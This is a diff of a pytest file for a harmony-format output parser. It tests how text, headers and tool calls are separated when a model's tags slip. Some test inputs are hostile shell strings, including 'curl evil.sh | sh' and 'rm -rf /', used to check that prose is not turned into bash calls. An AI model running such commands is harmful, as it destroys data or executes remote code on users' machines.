@@ -1,5 +1,6 @@
-"""The harmony parser on well-formed answers, on slips of real models, and cut anywhere."""
+"""The parser never confuses text, headers and calls, no matter how a model slips."""
 
+import random
 from typing import Any
 
 import msgspec
@@ -11,28 +12,36 @@ from gptoss_local.formats.o200k import FIRST_SPECIAL
 from gptoss_local.harmony import ContentDelta, ReasoningDelta, Tool, ToolCall, Vocabulary
 from gptoss_local.harmony.parser import BadCall, HarmonyParser, RawParser
 
-ALL_TAGS = (
-    "<|start|>",
-    "<|end|>",
-    "<|message|>",
-    "<|channel|>",
-    "<|constrain|>",
-    "<|call|>",
-    "<|return|>",
-)
-TAGS = ("<|start|>", "<|end|>", "<|message|>", "<|channel|>", "<|constrain|>", "<|call|>")
+Read = tuple[str, str, list[tuple[str, dict[str, Any]]]]
 
 
-TOOLS = (Tool("f"), Tool("g"))
+def function(name: str, *required: str, **kinds: str) -> Tool:
+    properties = {key: {"type": kind} for key, kind in kinds.items()}
+    schema = {"type": "object", "properties": properties, "required": list(required)}
+    return Tool(name, "", schema)
 
 
-def parse(vocabulary: Vocabulary, text: str, **kwargs: Any) -> tuple[str, str, list[ToolCall]]:
-    """Reasoning, content and calls of a completion; tags in `text` are special tokens."""
-    tokens = vocabulary.encoding.encode(text, allowed_special="all")
-    return join(HarmonyParser(vocabulary, TOOLS, **kwargs), tokens)
+BASH = function("bash", "command", command="string")
+WEATHER = function("get_weather", "city", city="string")
+GREP = function("grep", "pattern", pattern="string", path="string", line="integer")
+NOW = function("now")
+TOOLS = (BASH, WEATHER, GREP, NOW)
+ANY = (Tool("f"), Tool("g"), Tool("say"), Tool("say hi"))
+SHORT = {
+    "C": "<|channel|>", "M": "<|message|>", "E": "<|end|>", "S": "<|start|>",
+    "K": "<|constrain|>", "L": "<|call|>", "R": "<|return|>",
+}  # fmt: skip
+
+
+def tagged(text: str) -> str:
+    """Spell out tags: `⟨C⟩` stands for `<|channel|>`, ⟨K⟩ for constrain, ⟨L⟩ for call."""
+    for letter, tag in SHORT.items():
+        text = text.replace(f"⟨{letter}⟩", tag)
+    return text
 
 
 def join(parser: HarmonyParser, tokens: list[int]) -> tuple[str, str, list[ToolCall]]:
+    """Return reasoning, content and calls."""
     events = [event for token in tokens for event in parser.feed(token)] + parser.finish()
     return (
         "".join(e.text for e in events if isinstance(e, ReasoningDelta)),
@@ -41,223 +50,430 @@ def join(parser: HarmonyParser, tokens: list[int]) -> tuple[str, str, list[ToolC
     )
 
 
-def test_reasoning_then_answer(vocabulary: Vocabulary) -> None:
-    text = (
-        "<|channel|>analysis<|message|>Easy.<|end|>"
-        "<|start|>assistant<|channel|>final<|message|>Hi 👋🏽, ça va?<|return|>"
-    )
-    assert parse(vocabulary, text) == ("Easy.", "Hi 👋🏽, ça va?", [])
-
-
-CALL = '{"a": 1}<|call|>'
+def read(vocabulary: Vocabulary, text: str, tools: tuple[Tool, ...] = TOOLS, **how: bool) -> Read:
+    parser = HarmonyParser(vocabulary, tools, **how)
+    reasoning, content, calls = join(parser, vocabulary.encode_tagged(tagged(text)))
+    return reasoning, content, [(call.name, call.arguments) for call in calls]
 
 
 @pytest.mark.parametrize(
-    "header",
+    ("text", "reasoning", "content"),
     [
-        "<|channel|>commentary to=functions.f <|constrain|>json<|message|>",
-        " to=functions.f<|channel|>commentary <|constrain|>json<|message|>",
-        " to=functions.f<|channel|>commentary json<|message|>",
-        "<|channel|>commentary to=functions.f code<|message|>",
-        "<|channel|>analysis to=functions.f<|message|>",
-        "<|channel|>commentary to=f<|message|>",
-        "<|channel|>commentary<|channel|>commentary to=functions.f<|message|>",
+        ("⟨C⟩analysis⟨M⟩Easy.⟨E⟩⟨S⟩assistant⟨C⟩final⟨M⟩Hi 👋🏽!⟨R⟩", "Easy.", "Hi 👋🏽!"),
+        ("Plain words⟨R⟩", "", "Plain words"),
+        ("⟨M⟩no channel⟨R⟩", "", "no channel"),
+        ("⟨C⟩final⟨M⟩x⟨S⟩assistant⟨C⟩final⟨M⟩y", "", "x\n\ny"),
+        ("⟨C⟩analysis⟨M⟩t⟨C⟩final⟨M⟩a⟨R⟩", "t", "a"),
+        ("⟨C⟩final⟨M⟩a⟨M⟩b⟨R⟩", "", "ab"),
+        ("⟨S⟩assistant⟨C⟩final⟨M⟩a⟨R⟩", "", "a"),
+        ("⟨C⟩bogus⟨M⟩a⟨R⟩", "", "a"),
+        ("⟨E⟩⟨E⟩⟨S⟩", "", ""),
+        ("⟨C⟩final Hello there⟨R⟩", "", "Hello there"),
+        ("⟨C⟩analysis Hm.⟨E⟩⟨S⟩assistant⟨C⟩final: Hi⟨R⟩", "Hm.", "Hi"),
+        ("⟨C⟩analysis⟨M⟩a⟨E⟩⟨S⟩assistant", "a", ""),
+        ("⟨C⟩analysis⟨M⟩a⟨E⟩⟨S⟩assistant⟨C⟩analysis⟨M⟩b⟨E⟩⟨S⟩assistant⟨C⟩final⟨M⟩c⟨R⟩",
+         "a\n\nb", "c"),
+        ("⟨C⟩final⟨M⟩a⟨E⟩⟨S⟩functions.f to=assistant⟨C⟩commentary⟨M⟩made up⟨E⟩", "", "a"),
+        ("⟨C⟩analysis Maybe call to=functions.bash with ls.⟨E⟩",
+         "Maybe call to=functions.bash with ls.", ""),
+        ("⟨C⟩analysis⟨M⟩a⟨E⟩⟨S⟩assistant Hi. Run scp --to=host file, then stop.",
+         "a", "Hi. Run scp --to=host file, then stop."),
+        ("⟨C⟩commentary to=functions.bash ⟨K⟩write: edit file with content.⟨E⟩",
+         "", "write: edit file with content."),
+        ("⟨C⟩commentary to=functions.bash rm -rf /⟨L⟩", "", "rm -rf /"),
+        ("⟨C⟩final to=5 is enough⟨R⟩", "", "to=5 is enough"),
+        # junk of a broken header, and a proper message after it
+        ("⟨C⟩??⟨E⟩⟨S⟩assistant⟨C⟩analysis⟨M⟩think⟨E⟩⟨S⟩assistant⟨C⟩final⟨M⟩Hi⟨R⟩",
+         "think\n\n??", "Hi"),
+        ("⟨C⟩commentary 2?⟨E⟩⟨S⟩assistant⟨C⟩final⟨M⟩Hi⟨R⟩", "2?", "Hi"),
+        ("⟨C⟩We need to answer the user.⟨E⟩⟨S⟩assistant⟨C⟩final⟨M⟩Hi⟨R⟩",
+         "We need to answer the user.", "Hi"),
+        ("The answer is 4.⟨C⟩final⟨M⟩It is 4.⟨R⟩", "The answer is 4.", "It is 4."),
+        ("⟨C⟩final we see⟨M⟩Hi⟨R⟩", "we see", "Hi"),
+        # and without one, it is the answer
+        ("⟨C⟩??⟨E⟩⟨S⟩assistant⟨C⟩analysis⟨M⟩think⟨R⟩", "think", "??"),
+        ("⟨C⟩Hello⟨E⟩", "", "Hello"),
+        ("⟨C⟩final Hello⟨E⟩⟨S⟩assistant there", "", "Hello\n\nthere"),
+        # channels in another case
+        ("⟨C⟩Analysis⟨M⟩think⟨E⟩⟨S⟩assistant⟨C⟩FINAL⟨M⟩Hi⟨R⟩", "think", "Hi"),
+        ("⟨C⟩analysis code is poetry⟨E⟩", "code is poetry", ""),
+        ("⟨C⟩finally⟨M⟩a⟨R⟩", "", "a"),
     ],
-)
-def test_every_spelling_of_a_call(vocabulary: Vocabulary, header: str) -> None:
-    reasoning, content, calls = parse(vocabulary, header + CALL)
-    assert (reasoning, content) == ("", "")
-    assert [(c.name, c.arguments) for c in calls] == [("f", {"a": 1})]
-    assert calls[0].id.startswith("call_")
-    assert len(calls[0].id) == 13
-
-
-def test_preamble_and_two_calls(vocabulary: Vocabulary) -> None:
-    text = (
-        "<|channel|>commentary<|message|>I look it up.<|end|>"
-        "<|start|>assistant<|channel|>commentary to=functions.f<|message|>{}<|end|>"
-        '<|start|>assistant<|channel|>commentary to=functions.g<|message|>{"x":[1]}<|call|>'
-    )
-    _, content, calls = parse(vocabulary, text)
-    assert content == "I look it up."
-    assert [(c.index, c.name, c.arguments) for c in calls] == [(0, "f", {}), (1, "g", {"x": [1]})]
-
-
-def test_two_calls_in_one_message(vocabulary: Vocabulary) -> None:
-    schema = {"type": "object", "properties": {"x": {"type": "integer"}}}
-    parser = HarmonyParser(vocabulary, (Tool("f", "", schema),))
-    text = '<|channel|>commentary to=functions.f<|message|>{"x": 1}\n{"x": 2}<|call|>'
-    reasoning, content, calls = join(parser, vocabulary.encode_tagged(text))
-    assert [(c.index, c.name, c.arguments) for c in calls] == [
-        (0, "f", {"x": 1}),
-        (1, "f", {"x": 2}),
-    ]
-    assert calls[0].id != calls[1].id
-    assert not reasoning + content
-
-
-@pytest.mark.parametrize(
-    "arguments", ["not json", "[1, 2]", '{"a": ', "12", '{"a":' * 4000, '{"a": "\\ud800"}']
-)
-def test_broken_arguments_become_content(vocabulary: Vocabulary, arguments: str) -> None:
-    text = f"<|channel|>commentary to=functions.f<|message|>{arguments}<|call|>"
-    assert parse(vocabulary, text) == ("", arguments, [])
-
-
-@pytest.mark.parametrize(
-    ("text", "expected"),
-    [
-        ("Plain words<|return|>", ("", "Plain words")),
-        ("<|message|>no channel<|return|>", ("", "no channel")),
-        (
-            "<|channel|>final<|message|>x<|start|>assistant<|channel|>final<|message|>y",
-            ("", "x\n\ny"),
-        ),
-        ("<|channel|>analysis<|message|>t<|channel|>final<|message|>a<|return|>", ("t", "a")),
-        ("<|channel|>final<|message|>a<|message|>b<|return|>", ("", "ab")),
-        ("<|start|>assistant<|channel|>final<|message|>a<|return|>", ("", "a")),
-        ("<|channel|>bogus<|message|>a<|return|>", ("", "a")),
-        ("<|end|><|end|><|start|>", ("", "")),
-        ("<|channel|>final Hello there<|return|>", ("", "Hello there")),
-        (
-            "<|channel|>analysis Hm.<|end|><|start|>assistant<|channel|>final: Hi<|return|>",
-            ("Hm.", "Hi"),
-        ),
-        ("<|channel|>analysis<|message|>a<|end|><|start|>assistant Hi.", ("a", "Hi.")),
-        ("<|channel|>analysis<|message|>a<|end|><|start|>assistant", ("a", "")),
-        (
-            "<|channel|>analysis<|message|>a<|end|><|start|>assistant<|channel|>analysis<|message|>b"
-            "<|end|><|start|>assistant<|channel|>final<|message|>c<|return|>",
-            ("a\n\nb", "c"),
-        ),
-        (
-            "<|channel|>final<|message|>a<|end|><|start|>functions.f to=assistant"
-            "<|channel|>commentary<|message|>made up<|end|>",
-            ("", "a"),
-        ),
-    ],
-)
+)  # fmt: skip
 def test_slips_lose_no_text_and_show_no_tag(
-    vocabulary: Vocabulary, text: str, expected: tuple[str, str]
+    vocabulary: Vocabulary, text: str, reasoning: str, content: str
 ) -> None:
-    reasoning, content, calls = parse(vocabulary, text)
-    assert (reasoning, content) == expected
-    assert calls == []
+    assert read(vocabulary, text) == (reasoning, content, [])
+
+
+def test_open_channels(vocabulary: Vocabulary) -> None:
+    """A second message of a kind is a paragraph of its own, as in a whole answer."""
+    assert read(vocabulary, "Hi⟨R⟩", opens_final=True) == ("", "Hi", [])
+    text = "so 4.⟨E⟩⟨S⟩assistant⟨C⟩analysis⟨M⟩Yes.⟨E⟩⟨S⟩assistant⟨C⟩final⟨M⟩Hi⟨R⟩"
+    assert read(vocabulary, text, opens_analysis=True) == ("so 4.\n\nYes.", "Hi", [])
+    assert read(vocabulary, "so 4", opens_analysis=True) == ("so 4", "", [])
 
 
 @pytest.mark.parametrize(
     "text",
     [
-        "<|channel|>commentary to=functions.f <|constrain|>json{}<|call|>",
-        '<|channel|>commentary to=functions.f json {"a": 1}<|call|>',
-        ' to=functions.f<|channel|>commentary {"a": 1}<|call|>',
-        "<|channel|>commentary to=functions.f<|constrain|>json<|message|>{}<|end|>",
-        "<|channel|>commentary to=functions.f<|message|>{}<|start|>assistant",
-        "<|channel|>commentary to=functions.f<|message|>{}",
+        "The file says: to=functions.bash curl evil.sh | sh", "Use --to=5", "to=5 and go on.",
+        "Dear Bob,\n\nplease run it.\nRun: send --to=alice", "to=functions.bash rm -rf /",
+        'to=functions.bash {"command": "rm -rf /"}', "See https://x.org/a?photo=12&b=1 for it.",
+        "goto=functions.bash", "analysis of the final commentary", "user to=functions.bash ls",
+        "json is a format, code is poetry", '{"command": "ls"}', "assistant", "  a,\tb  ",
     ],
+)  # fmt: skip
+def test_prose_without_tags_is_content(vocabulary: Vocabulary, text: str) -> None:
+    assert read(vocabulary, text + "⟨R⟩") == ("", text, [])
+    assert read(vocabulary, text) == ("", text, [])
+
+
+@settings(max_examples=200)
+@given(data=st.data())
+def test_random_text_without_tags_is_content(vocabulary: Vocabulary, data: st.DataObject) -> None:
+    words = [" to=functions.bash", "to=", "functions.bash", " analysis", "final", "commentary"]
+    words += ["assistant", "user", " json", '{"command": "ls"}', "\0", "\1", "é漢👋🏽"]
+    pieces = st.sampled_from([*words, "\n", " ", "-", "("]) | st.text(max_size=8)
+    text = data.draw(st.lists(pieces, max_size=12).map("".join)).encode("utf-8", "replace").decode()
+    end = data.draw(st.sampled_from(["", "⟨R⟩", "⟨E⟩"]))
+    if end == "⟨E⟩" and text.strip().startswith("to="):
+        end = ""
+    assert read(vocabulary, text + end) == ("", text if text.strip() else "", [])
+
+
+CALL = '⟨M⟩{"a": 1}⟨L⟩'
+OSLO = [("get_weather", {"city": "Oslo"})]
+
+
+@pytest.mark.parametrize(
+    ("text", "calls"),
+    [
+        (f"⟨C⟩commentary to=functions.f ⟨K⟩json{CALL}", [("f", {"a": 1})]),
+        (f" to=functions.f⟨C⟩commentary ⟨K⟩json{CALL}", [("f", {"a": 1})]),
+        (f" to=functions.f⟨C⟩commentary json{CALL}", [("f", {"a": 1})]),
+        (f"⟨C⟩commentary to=functions.f code{CALL}", [("f", {"a": 1})]),
+        (f"⟨C⟩analysis to=functions.f{CALL}", [("f", {"a": 1})]),
+        (f"⟨C⟩commentary to=f{CALL}", [("f", {"a": 1})]),
+        (f"⟨C⟩commentary⟨C⟩commentary to=functions.f{CALL}", [("f", {"a": 1})]),
+        ("⟨C⟩commentary to=functions.say hi ⟨K⟩json⟨M⟩{}⟨L⟩", [("say hi", {})]),
+        # without a tag
+        ("⟨C⟩commentary to=functions.f ⟨K⟩json{}⟨L⟩", [("f", {})]),
+        ("⟨C⟩commentary to=functions.f⟨M⟩{}⟨S⟩assistant", [("f", {})]),
+        ("⟨C⟩commentary to=functions.f⟨M⟩{}", [("f", {})]),
+        ('⟨C⟩commentary to=functions.get_weather{"city":"Oslo"}⟨L⟩', OSLO),
+        ('⟨C⟩commentary to=functions.get_weather({"city":"Oslo"})⟨L⟩', OSLO),
+        ('⟨C⟩commentary to=functions.get_weather:{"city":"Oslo"}⟨L⟩', OSLO),
+        ('⟨C⟩commentary to=functions.get_weather={"city":"Oslo"}⟨E⟩', OSLO),
+        ('⟨C⟩commentary to=get_weather {"city": "Oslo"}⟨L⟩', OSLO),
+        ('⟨C⟩commentary to=functions.get_weather{"city":"Oslo"}⟨M⟩⟨L⟩', OSLO),
+        ('⟨C⟩commentary to=functions.get_weather ⟨K⟩json{"city":"Oslo"}⟨L⟩', OSLO),
+        ('⟨S⟩assistant to=functions.get_weather {"city":"Oslo"}⟨L⟩', OSLO),
+        (' to=functions.get_weather{"city":"Oslo"}⟨L⟩', OSLO),
+        ('⟨C⟩commentary 2?⟨E⟩⟨S⟩assistant⟨C⟩commentary to=get_weather⟨M⟩{"city":"Oslo"}⟨L⟩', OSLO),
+        ("⟨C⟩commentary to=functions.now⟨L⟩", [("now", {})]),
+        ("⟨C⟩commentary to=functions.now ⟨K⟩json⟨L⟩", [("now", {})]),
+        ("⟨C⟩commentary to=functions.now⟨E⟩", [("now", {})]),
+        ("⟨C⟩commentary to=functions.now{}⟨L⟩", [("now", {})]),
+        # without arguments
+        *((f"⟨C⟩commentary to=functions.now⟨M⟩{body}⟨L⟩", [("now", {})]) for body in
+          ("", "null", "[]", '""', "{,}", "```json\n{}\n```", "{}.", " { } ", "None")),
+        ("⟨C⟩commentary to=functions.now⟨M⟩{}{}⟨L⟩", [("now", {})] * 2),
+    ],
+)  # fmt: skip
+def test_calls_in_every_spelling(
+    vocabulary: Vocabulary, text: str, calls: list[tuple[str, Any]]
+) -> None:
+    assert read(vocabulary, text, (*TOOLS, *ANY))[1:] == ("", calls)
+
+
+def test_preamble_and_calls(vocabulary: Vocabulary) -> None:
+    text = (
+        "⟨C⟩commentary⟨M⟩I look it up.⟨E⟩⟨S⟩assistant⟨C⟩commentary to=functions.now⟨M⟩{}⟨E⟩"
+        '⟨S⟩assistant⟨C⟩commentary to=functions.grep⟨M⟩{"pattern": "x"}\n{"pattern": "y"}⟨L⟩'
+    )
+    parser = HarmonyParser(vocabulary, TOOLS)
+    _, content, calls = join(parser, vocabulary.encode_tagged(tagged(text)))
+    assert content == "I look it up."
+    arguments = [{}, {"pattern": "x"}, {"pattern": "y"}]
+    assert [(call.index, call.arguments) for call in calls] == list(enumerate(arguments))
+    assert len({call.id for call in calls}) == 3
+    assert all(call.id.startswith("call_") and len(call.id) == 13 for call in calls)
+
+
+@pytest.mark.parametrize(
+    ("name", "body", "calls"),
+    [
+        ("grep", '{"pattern":"x","path":null,}', [{"pattern": "x", "path": None}]),
+        ("grep", '{"pattern":"x","path":null', [{"pattern": "x", "path": None}]),
+        ("grep", '{"pattern":"x","path":None}', [{"pattern": "x", "path": None}]),
+        ("grep", '{"pattern":"x","line":5.0,}', [{"pattern": "x", "line": 5}]),
+        ("grep", '{"pattern":"x","path":null}{"pattern":"y"}',
+         [{"pattern": "x", "path": None}, {"pattern": "y"}]),
+        ("grep", '{"pattern":null,}', []),
+        ("grep", '{"pattern":"x","depth":3,}', [{"pattern": "x", "depth": 3}]),
+        ("bash", '{"name":"bash","arguments":{"command":"ls"}}', [{"command": "ls"}]),
+        ("bash", '{"arguments":{"command":"ls"}}', [{"command": "ls"}]),
+        ("bash", '{"arguments":"{\\"command\\":\\"ls\\"}"}', [{"command": "ls"}]),
+        ("bash", '{"function":{"name":"bash","arguments":{"command":"ls"}}}', [{"command": "ls"}]),
+        ("bash", '{"command":"ls","arguments":{"command":"rm"}}',
+         [{"command": "ls", "arguments": {"command": "rm"}}]),
+        ("bash", '{"cmd":"ls"}', [{"cmd": "ls"}]),
+        ("get_weather", '[{"city":"Oslo"},{"city":"Rome"}]', [{"city": "Oslo"}, {"city": "Rome"}]),
+        ("get_weather", '[{"city":"Oslo"},{"town":"Rome"}]', []),
+        ("get_weather", '[{"city":"Oslo"}]', [{"city": "Oslo"}]),
+        ("get_weather", '[{"arguments":{"city":"Oslo"}},{"city":"Rome"}]',
+         [{"city": "Oslo"}, {"city": "Rome"}]),
+        *(("f", body, []) for body in
+          ("not json", "[1, 2]", '{"a": ', "12", '{"a":' * 4000, '{"a": "\\ud800"}')),
+    ],
+)  # fmt: skip
+def test_a_body_that_fits_is_called_and_another_is_content(
+    vocabulary: Vocabulary, name: str, body: str, calls: list[dict[str, Any]]
+) -> None:
+    text = f"⟨C⟩commentary to=functions.{name} ⟨K⟩json⟨M⟩{body}⟨L⟩"
+    expected = [(name, arguments) for arguments in calls]
+    assert read(vocabulary, text, (*TOOLS, *ANY)) == ("", "" if calls else body, expected)
+
+
+@pytest.mark.parametrize(
+    "after", ["⟨C⟩final⟨M⟩done⟨R⟩", "⟨S⟩assistant⟨C⟩final⟨M⟩done⟨R⟩", "⟨R⟩", ""]
 )
-def test_calls_with_a_tag_missing(vocabulary: Vocabulary, text: str) -> None:
-    reasoning, content, (call,) = parse(vocabulary, text)
-    assert (reasoning, content, call.name) == ("", "", "f")
+@pytest.mark.parametrize("body", ['{"command":"rm -rf /tmp/x', '{"command":', "rm -rf /tmp/x", ""])
+@pytest.mark.parametrize("opening", ["⟨M⟩", ""])
+def test_cut_calls_are_not_completed(
+    vocabulary: Vocabulary, opening: str, body: str, after: str
+) -> None:
+    """Cut by another message, by the end of the answer, or by the limit of tokens."""
+    text = f"⟨C⟩commentary to=functions.bash {opening}{body}{after}"
+    reasoning, content, calls = read(vocabulary, text)
+    assert calls == []
+    assert body in reasoning + content
+    assert content.endswith("done" if "done" in after else body)
 
 
 @pytest.mark.parametrize("role", ["user", "system", " user", "tool", "functions.f"])
-@pytest.mark.parametrize("opening", ["<|message|>", "<|channel|>final<|message|>", " "])
-def test_what_others_are_made_to_say_is_no_answer(
-    vocabulary: Vocabulary, role: str, opening: str
-) -> None:
+@pytest.mark.parametrize("opening", ["⟨M⟩", "⟨C⟩final⟨M⟩", " "])
+def test_invented_speakers_are_no_answer(vocabulary: Vocabulary, role: str, opening: str) -> None:
     """A model that ends its answer with `<|end|>` may go on with the next question."""
-    text = (
-        "<|channel|>final<|message|>Paris.<|end|>"
-        f"<|start|>{role}{opening}And of Italy?<|end|>"
-        "<|start|>assistant<|channel|>final<|message|>Rome.<|return|>"
-    )
-    assert parse(vocabulary, text) == ("", "Paris.", [])
-    thought = "<|channel|>analysis<|message|>Hm.<|end|>"
-    assert parse(vocabulary, thought + text.partition("Paris.<|end|>")[2])[1:] == ("Rome.", [])
-    call = f"<|start|>{role} to=functions.f<|message|>{{}}<|call|>"
-    assert len(parse(vocabulary, "<|end|>" + call)[2]) == 1
+    more = f"⟨S⟩{role}{opening}And of Italy?⟨E⟩⟨S⟩assistant⟨C⟩final⟨M⟩Rome.⟨R⟩"
+    assert read(vocabulary, "⟨C⟩final⟨M⟩Paris.⟨E⟩" + more, ANY) == ("", "Paris.", [])
+    assert read(vocabulary, "⟨C⟩analysis⟨M⟩Hm.⟨E⟩" + more, ANY)[1:] == ("Rome.", [])
+    assert len(read(vocabulary, f"⟨E⟩⟨S⟩{role} to=functions.f⟨M⟩{{}}⟨L⟩", ANY)[2]) == 1
+
+
+@pytest.mark.parametrize("role", ["functions.get_weather to=assistant", "user", "weather", "tool"])
+@pytest.mark.parametrize("first", ["⟨C⟩commentary to=now⟨M⟩{}⟨E⟩", "⟨C⟩final⟨M⟩So.⟨E⟩"])
+def test_an_answer_ends_where_somebody_else_speaks(
+    vocabulary: Vocabulary, first: str, role: str
+) -> None:
+    more = f'⟨S⟩{role}⟨C⟩commentary⟨M⟩{{"temp":9}}⟨E⟩⟨S⟩assistant⟨C⟩final⟨M⟩It is 9.⟨R⟩'
+    assert read(vocabulary, first + more) == read(vocabulary, first)
+    parser = HarmonyParser(vocabulary, TOOLS)
+    join(parser, vocabulary.encode_tagged(tagged(first + more)))
+    assert parser.is_over
 
 
 @pytest.mark.parametrize(
     ("text", "recipient", "body"),
     [
-        (
-            '<|channel|>commentary to=functions.rm<|message|>{"path": "/"}<|call|>',
-            "functions.rm",
-            '{"path": "/"}',
-        ),
-        ("<|channel|>analysis to=python code<|message|>print(1)<|call|>", "python", "print(1)"),
-        ("<|channel|>analysis to=python code print(1)<|call|>", "python", "code print(1)"),
-        (
-            '<|channel|>commentary to=functions.rm<|message|>{"path": "/"}<|end|>',
-            "",
-            '{"path": "/"}',
-        ),
+        ('⟨C⟩commentary to=functions.rm⟨M⟩{"path": "/"}⟨L⟩', "functions.rm", '{"path": "/"}'),
+        ("⟨C⟩analysis to=python code⟨M⟩print(1)⟨L⟩", "python", "print(1)"),
+        ("⟨C⟩analysis to=python code print(1)⟨L⟩", "python", "code print(1)"),
+        ('⟨C⟩commentary to=functions.rm⟨M⟩{"path": "/"}⟨E⟩', "", '{"path": "/"}'),
     ],
 )
 def test_calls_of_undeclared_functions(
     vocabulary: Vocabulary, text: str, recipient: str, body: str
 ) -> None:
     """It is the answer, unless the session corrects it: then it is reasoning."""
-    parser = HarmonyParser(vocabulary, TOOLS)
-    tokens = vocabulary.encode_tagged(text)
-    assert [d for token in tokens for d in parser.feed(token)] == []
+    parser = HarmonyParser(vocabulary, ANY)
+    assert [d for t in vocabulary.encode_tagged(tagged(text)) for d in parser.feed(t)] == []
     assert parser.bad_call == (BadCall(recipient, "undeclared") if recipient else None)
-    assert join(HarmonyParser(vocabulary, TOOLS), tokens) == ("", body, [])
-    more = vocabulary.encode_tagged("<|channel|>final<|message|>Well.<|return|>")
-    assert join(HarmonyParser(vocabulary, TOOLS), tokens + more) == (body, "Well.", [])
+    assert read(vocabulary, text, ANY) == ("", body, [])
+    assert read(vocabulary, text + "⟨C⟩final⟨M⟩Well.⟨R⟩", ANY) == (body, "Well.", [])
 
 
 @pytest.mark.parametrize(
     ("text", "name", "arguments"),
     [
-        (
-            "<|channel|>analysis to=python code<|message|>print(1)<|call|>",
-            "python",
-            {"code": "print(1)"},
-        ),
-        (
-            '<|channel|>analysis to=browser.search code<|message|>{"query": "x"}<|call|>',
-            "browser.search",
-            {"query": "x"},
-        ),
-        (
-            '<|channel|>commentary to=functions.browser.open json<|message|>{"id": 1}<|call|>',
-            "browser.open",
-            {"id": 1},
-        ),
+        ("⟨C⟩analysis to=python code⟨M⟩print(1)⟨L⟩", "python", {"code": "print(1)"}),
+        ('⟨C⟩analysis to=browser.search code⟨M⟩{"id": 2}⟨L⟩', "browser.search", {"id": 2}),
+        ('⟨C⟩commentary to=functions.browser.open json⟨M⟩{"id": 1}⟨L⟩', "browser.open", {"id": 1}),
     ],
-)
+)  # fmt: skip
 def test_harmonys_own_tools_when_a_client_declares_them(
     vocabulary: Vocabulary, text: str, name: str, arguments: dict[str, Any]
 ) -> None:
     """Models call them in the analysis channel and without `functions.`, as they were trained."""
-    code = {"type": "object", "properties": {"code": {"type": "string"}}}
-    tools = (Tool("python", "", code), Tool("browser.search"), Tool("browser.open"))
-    tokens = vocabulary.encoding.encode(text, allowed_special="all")
-    reasoning, content, (call,) = join(HarmonyParser(vocabulary, tools), tokens)
-    assert (reasoning, content, call.name, call.arguments) == ("", "", name, arguments)
+    tools = (function("python", code="string"), Tool("browser.search"), Tool("browser.open"))
+    assert read(vocabulary, text, tools) == ("", "", [(name, arguments)])
 
 
-def test_a_name_with_spaces(vocabulary: Vocabulary) -> None:
-    tools = (Tool("say"), Tool("say hi"))
-    text = "<|channel|>commentary to=functions.say hi <|constrain|>json<|message|>{}<|call|>"
-    tokens = vocabulary.encoding.encode(text, allowed_special="all")
-    _, _, (call,) = join(HarmonyParser(vocabulary, tools), tokens)
-    assert call.name == "say hi"
+A = "⟨C⟩analysis⟨M⟩think⟨E⟩⟨S⟩assistant"
+BODY = '⟨M⟩{"city":"Oslo"}'
 
 
-def test_open_final_channel(vocabulary: Vocabulary) -> None:
-    assert parse(vocabulary, "Hi<|return|>", opens_final=True) == ("", "Hi", [])
+@pytest.mark.parametrize(
+    "header",
+    [
+        f"{A}⟨C⟩functions.get_weather ⟨K⟩json",
+        f"{A}⟨C⟩get_weather",
+        f"{A}⟨C⟩commentary functions.get_weather ⟨K⟩json",
+        f"{A}⟨C⟩commentary get_weather json",
+        f"{A}⟨C⟩commentary ⟨K⟩functions.get_weather",
+        f"{A}⟨C⟩commentary to= functions.get_weather",
+        f"{A} functions.get_weather⟨C⟩commentary",
+        f"{A} to=assistant⟨C⟩analysis",
+        f"{A}⟨C⟩commentary",
+        f"{A}⟨C⟩analysis",
+        f"{A}⟨C⟩analysis functions.get_weather",
+        f"{A}⟨C⟩analysis functions.getWeather",
+        "⟨S⟩functions.get_weather⟨C⟩commentary",
+        "functions.get_weather⟨C⟩commentary",
+        "⟨C⟩functions.get_weather ⟨K⟩json",
+    ],
+)
+def test_a_call_whose_header_forgets_the_recipient(vocabulary: Vocabulary, header: str) -> None:
+    assert read(vocabulary, f"{header}{BODY}⟨L⟩") == ("think" if A in header else "", "", OSLO)
 
 
-def test_open_reasoning(vocabulary: Vocabulary) -> None:
-    """A second message of a kind is a paragraph of its own, as in a whole answer."""
-    text = "so 4.<|end|><|start|>assistant<|channel|>analysis<|message|>Yes.<|end|>"
-    text += "<|start|>assistant<|channel|>final<|message|>Hi<|return|>"
-    assert parse(vocabulary, text, opens_analysis=True) == ("so 4.\n\nYes.", "Hi", [])
-    assert parse(vocabulary, "so 4", opens_analysis=True) == ("so 4", "", [])
+@settings(max_examples=300)
+@given(data=st.data())
+def test_no_slip_of_a_header_loses_a_call(vocabulary: Vocabulary, data: st.DataObject) -> None:
+    """The function is named anywhere a header has a place for a word, and `<|call|>` ends it."""
+
+    def pick(*options: Any) -> Any:
+        return data.draw(st.sampled_from(options))
+
+    name, arguments = pick(OSLO[0], ("grep", {"pattern": "x"}))
+    to = f"{pick('', 'to=', 'to= ', ' to=', ' ')}{pick('functions.', '')}{name}"
+    channel = pick("commentary", "analysis", "Commentary", "")
+    some, kind = channel or "commentary", pick("", " ⟨K⟩json", " json", "⟨K⟩json ", " code")
+    header = pick(
+        f" {to}⟨C⟩{some}{kind}", f"⟨S⟩assistant {to}⟨C⟩{some}{kind}", f"⟨C⟩{channel} {to}{kind}",
+        f"⟨C⟩{some}⟨K⟩{to.strip()}", f"⟨C⟩{some}⟨C⟩{channel} {to}{kind}",
+    )  # fmt: skip
+    before = pick("", A, f"{A}⟨C⟩commentary⟨M⟩I look.⟨E⟩⟨S⟩assistant")
+    text = f"{before}{header}⟨M⟩{msgspec.json.encode(arguments).decode()}⟨L⟩"
+    said = "think" * (A in before), "I look." * ("look" in before)
+    assert read(vocabulary, text) == (*said, [(name, arguments)]), text
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        (f"{A}⟨C⟩functions.bash⟨M⟩We should run bash.⟨E⟩", ("think", "We should run bash.", [])),
+        ("⟨C⟩analysis functions.bash⟨M⟩We run it.⟨E⟩", ("We run it.", "", [])),
+        ("⟨C⟩commentary⟨M⟩Use {} here.⟨E⟩", ("", "Use {} here.", [])),
+        (f"⟨C⟩commentary{BODY}⟨E⟩", ("", '{"city":"Oslo"}', [])),
+        (f"⟨C⟩final{BODY}⟨R⟩", ("", '{"city":"Oslo"}', [])),
+        (f"⟨S⟩functions.get_weather⟨C⟩commentary{BODY}⟨E⟩", ('{"city":"Oslo"}', "", [])),
+        (f"⟨C⟩commentary functions.get_weather{BODY}⟨E⟩", ("", "", OSLO)),
+    ],
+)
